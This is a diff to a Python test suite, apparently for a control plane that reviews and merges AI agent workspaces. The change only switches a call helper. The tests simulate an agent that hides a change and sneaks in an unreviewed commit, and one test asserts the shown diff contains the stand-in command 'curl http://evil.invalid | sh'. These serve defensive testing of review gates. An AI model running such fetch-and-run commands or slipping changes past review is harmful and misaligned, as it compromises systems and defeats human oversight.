@@ -110,7 +110,7 @@ git show HEAD:install.sh | grep -q hello""")  # the lie works in the agent's own
     shown = review(pod)
     diff = {f["path"]: f for f in shown["files"]}["install.sh"]["diff"]
     assert "+curl http://evil.invalid | sh" in diff and "hello" not in diff
-    status, answer = control_plane.call("POST", f"/api/pods/{pod.name}/review/merge",
+    status, answer = control_plane.call_json("POST", f"/api/pods/{pod.name}/review/merge",
                                         {"head": shown["head"], "base": shown["base"]})
     assert status == 200, answer
     landed = pod.run("workspace", f"cat {TREE}/install.sh").stdout
@@ -137,7 +137,7 @@ def test_merge_lands_only_the_reviewed_commit(hostile_pod, control_plane):
     shown = review(pod)
     late = commit(pod, {"late.txt": "never reviewed\n"}, "agent: sneaked in")
     before = pod.run("workspace", f"git -C {TREE} rev-parse HEAD").stdout.strip()
-    status, answer = control_plane.call("POST", f"/api/pods/{pod.name}/review/merge",
+    status, answer = control_plane.call_json("POST", f"/api/pods/{pod.name}/review/merge",
                                         {"head": shown["head"], "base": shown["base"]})
     assert status == 409 and "moved" in answer["error"], answer
     assert pod.run("workspace", f"git -C {TREE} rev-parse HEAD").stdout.strip() == before
@@ -145,10 +145,10 @@ def test_merge_lands_only_the_reviewed_commit(hostile_pod, control_plane):
     # reviewed again, the new head merges
     shown = review(pod)
     assert shown["head"] == late
-    status, answer = control_plane.call("POST", f"/api/pods/{pod.name}/review/merge",
+    status, answer = control_plane.call_json("POST", f"/api/pods/{pod.name}/review/merge",
                                         {"head": shown["head"], "base": shown["base"]})
     assert status == 200 and answer["head"] == late, answer
-    status, answer = control_plane.call("POST", f"/api/pods/{pod.name}/review/merge", {})
+    status, answer = control_plane.call_json("POST", f"/api/pods/{pod.name}/review/merge", {})
     assert status == 400, answer  # no range, no merge
 
 
